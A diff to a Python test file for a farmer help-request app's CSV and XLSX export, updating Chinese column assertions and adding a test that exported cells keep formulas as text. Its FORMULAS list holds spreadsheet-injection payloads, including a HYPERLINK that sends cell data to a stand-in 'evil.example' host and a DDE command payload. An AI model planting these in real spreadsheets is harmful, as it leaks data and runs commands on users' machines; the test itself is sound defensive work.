@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
 import openpyxl
@@ -58,11 +59,44 @@ def test_export_csv_and_xlsx_files(
         assert result.exit_code == 0, result.output
         assert "wrote 2 requests" in result.output
     rows = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
-    assert rows[1]["text"] == "鸡不下蛋"
+    assert rows[1]["农户说"] == "鸡不下蛋"
+    assert rows[1]["问题类别"] == "畜牧兽医" and rows[1]["状态"] in ("登记中", "无人接单")
+    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", rows[1]["登记时间"])  # local, minutes
+    assert "farmer-b" not in csv_path.read_text(encoding="utf-8-sig")  # no openids for staff
     sheet = openpyxl.load_workbook(xlsx_path).active
     assert sheet is not None
     values = list(sheet.iter_rows(values_only=True))
-    assert values[0][0] == "code" and values[2][2] == "farmer-b"
+    assert values[0][:3] == ("编号", "登记时间", "状态") and values[2][8] == "鸡不下蛋"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "@SUM(A1)",
+]
+
+
+def test_exports_write_formulas_as_text(
+    client: FlaskClient, plain_wechat: FakeWeChat, cli_env: dict[str, str], tmp_path: Path
+) -> None:
+    for number, formula in enumerate(FORMULAS):
+        post(client, plain_wechat, plain_wechat.text(f"farmer-f{number}", formula))
+    runner = CliRunner()
+    xlsx_path, csv_path = tmp_path / "ledger.xlsx", tmp_path / "ledger.csv"
+    for fmt, path in (("xlsx", xlsx_path), ("csv", csv_path)):
+        result = runner.invoke(
+            main, ["requests", "export", "--format", fmt, "--output", str(path)], env=cli_env
+        )
+        assert result.exit_code == 0, result.output
+    workbook = openpyxl.load_workbook(xlsx_path)
+    sheet = workbook.active
+    assert sheet is not None
+    cells = [row[8] for row in sheet.iter_rows(min_row=2)]
+    assert [cell.value for cell in cells] == FORMULAS
+    assert all(cell.data_type == "s" for cell in cells)  # strings, not formulas ("f")
+    rows = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
+    assert [row["农户说"] for row in rows] == ["'" + formula for formula in FORMULAS]
 
 
 def test_export_xlsx_to_stdout_is_refused(cli_env: dict[str, str]) -> None:
